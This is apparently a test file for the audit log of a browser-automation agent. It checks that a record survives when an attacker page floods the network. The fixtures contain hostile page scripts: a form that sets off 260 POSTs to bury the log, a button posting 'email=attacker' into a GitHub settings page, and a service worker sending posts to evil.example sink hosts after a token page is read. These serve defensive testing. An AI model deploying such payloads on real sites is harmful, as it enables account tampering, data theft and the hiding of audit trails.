// The audit says what an action did however much its page sends meanwhile (an attack review): after a sensitive
// read, the human allows an attacker's page, approves its "Save profile" form into github.com/settings/profile, and
// the page answers the submit with 260 posts of its own. The action's record kept only the latest 200 lines of what
// left and the latest 20 writes of the tab: the approved write into the sensitive page was gone from `sent` (only
// `reason` still named its origin) and `issued` named one of the page's posts. Each log now keeps each kind apart
// and counts what it let go (browser/rankedLog.ts), and an action's first write is kept whatever follows it
// (PageActivity.watchWrites).

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type McpUnderTest, refOf, startMcp } from '../helpers/mcpClient.ts';
import { waitFor } from '../helpers/waitFor.ts';

const flood = 260;

interface ClickRecord {
  tool?: string;
  outcome?: string;
  sent?: string[];
  blocked?: string[];
  targets?: Record<string, { issued?: string }>;
}

describe('the audit of an approved write whose page floods the network', { timeout: 120_000 }, () => {
  let site: Fixture;
  let mcp: McpUnderTest;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, '<title>Tokens</title><p>ghp_floodToken77</p>'),
        // ?slow: the site answers the write once the page's posts have all arrived (15 s at most), so they all leave
        // during the action (a fixed 3 s let only 180 arrive on a loaded machine).
        '/settings/profile': async (req, _body, res) => {
          if (req.url?.includes('slow'))
            await waitFor(
              'the page’s posts to arrive before the write is answered',
              () => floodArrived() >= flood,
              {
                timeoutMs: 15_000,
              },
            ).catch(() => undefined);
          html(res, '<title>Saved</title><p>saved</p>');
        },
        '/x': (_req, _body, res) => {
          res.writeHead(204).end();
        },
        // A script button whose post into the sensitive page is held and refused, then a flood of posts to a
        // site the human never allowed: each refused.
        '/stops': (_req, _body, res) =>
          html(
            res,
            `<title>Stops</title><button onclick="fetch('${site.url('github.com', '/settings/emails')}', { method: 'POST', mode: 'no-cors', body: 'email=attacker' }).catch(() => {}); setTimeout(() => { for (let i = 0; i < ${flood}; i++) fetch('${site.url('evil2.example', '/x')}?i=' + i, { method: 'POST', mode: 'no-cors', body: 'k' }).catch(() => {}); }, 0)">Save</button>`,
          ),
        '/flood': (req, _body, res) => {
          const action = site.url(
            'github.com',
            `/settings/profile${req.url?.includes('slow') ? '?slow' : ''}`,
          );
          html(
            res,
            `<title>Flood</title><form id="f" method="post" action="${action}"><input name="name" value="me" aria-label="Name"><button>Save profile</button></form>
<script>f.addEventListener('submit', () => setTimeout(() => { for (let i = 0; i < ${flood}; i++) fetch('/x?i=' + i, { method: 'POST', body: 'k' }).catch(() => {}); }, 0));</script>`,
          );
        },
      },
      { tls: true },
    );
    mcp = await startMcp({ args: ['--mode', 'isolated', '--approval', 'auto'] });
    // The human allows the attacker's site after the read and approves the form: the page rides on both.
    mcp.human.policy = () => ({ decision: 'approve' });
    await mcp.call('new_page', { url: site.url('github.com', '/settings/tokens') });
  });
  after(async () => {
    await mcp?.close();
    await site?.close();
  });

  /** Clicks "Save profile" on the flooding page and gives the click's audit record once the flood has arrived. */
  /** How many of the page's posts had reached the site when the click returned. */
  let arrivedAtReturn = 0;
  const arrived = () => site.seen.filter((seen) => seen.path.startsWith('/x?')).length;
  /** The page's posts that arrived since the current click began. */
  let floodArrived = () => 0;
  async function clickAndFlood(path: string): Promise<ClickRecord> {
    const before = arrived();
    floodArrived = () => arrived() - before;
    await mcp.call('new_page', { url: site.url('evil.example', path) });
    const clicked = await mcp.call('click', {
      ref: refOf((await mcp.call('take_snapshot')).text, 'Save profile'),
    });
    arrivedAtReturn = arrived() - before;
    assert.doesNotMatch(clicked.text, /^error/i, clicked.text);
    await waitFor('the page’s posts to arrive', () => arrived() - before >= flood);
    return lastClick();
  }

  function lastClick(): ClickRecord {
    const records = readFileSync(mcp.auditPath, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as ClickRecord);
    const click = records.filter((record) => record.tool === 'click' && record.outcome !== 'started').at(-1);
    assert.ok(click, 'the click has an audit record');
    return click;
  }

  test('the approved write into the sensitive page leads what the record says left, and the flood is counted whole', async () => {
    const click = await clickAndFlood('/flood?slow');
    const writes = site.seen.filter((seen) => seen.host.startsWith('github.com') && seen.method === 'POST');
    assert.equal(writes.length, 1);
    const sent = click.sent ?? [];
    assert.match(sent[0] ?? '', /^POST https:\/\/github\.com:\d+\/settings\/profile\?slow/, sent.join('\n'));
    // Ten lines shown, the rest counted, those the log let go for room too: never fewer than had reached the site
    // when the action returned (more than the 200 lines a kind keeps, which the slow answer leaves time for).
    assert.ok(arrivedAtReturn > 200, `only ${arrivedAtReturn} of the page's posts arrived during the action`);
    const more = Number(/^\(and (\d+) more\)$/.exec(sent.at(-1) ?? '')?.[1] ?? 0);
    const counted = sent.length - 1 + more;
    assert.ok(
      counted >= arrivedAtReturn,
      `the record counts ${counted} sent, ${arrivedAtReturn} had arrived`,
    );
  });

  test('what the click issued is its own form post, not one of the page’s posts after it', async () => {
    const click = await clickAndFlood('/flood');
    const issued = Object.values(click.targets ?? {}).map((target) => target.issued);
    assert.deepEqual(
      issued.map((what) => what?.replace(/:\d+/, '')),
      ['POST https://github.com/settings/profile'],
      JSON.stringify(click.targets),
    );
  });

  test('a refused post into the sensitive page leads what the record says was stopped, whatever stops follow', async () => {
    // The human lets the agent open the attacker's page again and refuses what it sends.
    mcp.human.policy = (message) => ({
      decision: /evil2\.example|settings\/emails/.test(message) ? 'reject' : 'approve',
    });
    await mcp.call('new_page', { url: site.url('evil.example', '/stops') });
    await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Save') });
    const blocked = lastClick().blocked ?? [];
    assert.match(blocked[0] ?? '', /^POST https:\/\/github\.com:\d+\/settings\/emails/, blocked.join('\n'));
    assert.deepEqual(
      site.seen.filter((seen) => seen.path.startsWith('/settings/emails') || seen.host.startsWith('evil2.')),
      [],
    );
  });
});

describe('the audit of a flood no tab sent', { timeout: 120_000 }, () => {
  let site: Fixture;
  let mcp: McpUnderTest;
  const sent = 200;
  // A service worker that, told to, posts to subdomains of its site every 10 ms: no tab's hook ties its requests.
  const worker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('message', (event) => { let i = 0; const t = setInterval(() => { fetch('https://sink' + (i % 7) + '.evil.example:' + event.data + '/x?i=' + i, { method: 'POST', mode: 'no-cors', body: 'k' }).catch(() => {}); if (++i === ${sent}) clearInterval(t); }, 10); });`;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, '<title>Tokens</title><p>ghp_floodToken78</p>'),
        '/home': (_req, _body, res) => html(res, '<title>Home</title><p>home</p>'),
        '/sw.js': (_req, _body, res) => {
          res.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
        },
      },
      { tls: true },
    );
    mcp = await startMcp({ args: ['--mode', 'isolated'] });
    mcp.human.policy = (message) => ({ decision: /sink\d/.test(message) ? 'reject' : 'approve' });
  });
  after(async () => {
    await mcp?.close();
    await site?.close();
  });

  test('a worker’s refused posts after a read are a few audit events, counting every one', async () => {
    await mcp.call('navigate_page', { url: site.url('evil.example', '/home') });
    await mcp.call('evaluate_script', {
      function: `async () => { await navigator.serviceWorker.register('/sw.js'); await navigator.serviceWorker.ready; return 1 }`,
    });
    const read = await mcp.call('new_page', { url: site.url('github.com', '/settings/tokens') });
    assert.match(read.text, /ghp_floodToken78|Tokens/);
    await mcp.call('take_snapshot');
    await mcp.call('evaluate_script', {
      pageId: 'p1',
      function: `async () => { (await navigator.serviceWorker.ready).active.postMessage(${site.port}); return 'posted' }`,
    });
    const events = () =>
      readFileSync(mcp.auditPath, 'utf8')
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { tool?: string; url?: string; reason?: string })
        .filter((record) => record.tool === '(egress)' && (record.url ?? '').includes('evil.example'));
    // The first as it is, then the rest of the window counted in one event when it ends.
    const summary = await waitFor('the count of the rest', () =>
      events().find((record) =>
        /the last of \d+ requests no tab sent to evil\.example/.test(record.reason ?? ''),
      ),
    );
    const counted = (records: { reason?: string }[]) =>
      records.reduce(
        (sum, record) => sum + Number(/the last of (\d+) requests/.exec(record.reason ?? '')?.[1] ?? 1),
        0,
      );
    // Every one refused is counted once its window has been told.
    await waitFor('every refusal counted', () => counted(events()) >= sent, { timeoutMs: 20_000 });
    const told = events();
    assert.ok(told.length <= 4, `${told.length} audit events for one worker's flood`);
    assert.equal(counted(told), sent, JSON.stringify(summary));
    assert.deepEqual(
      site.seen.filter((seen) => seen.host.startsWith('sink')),
      [],
    );
  });
});
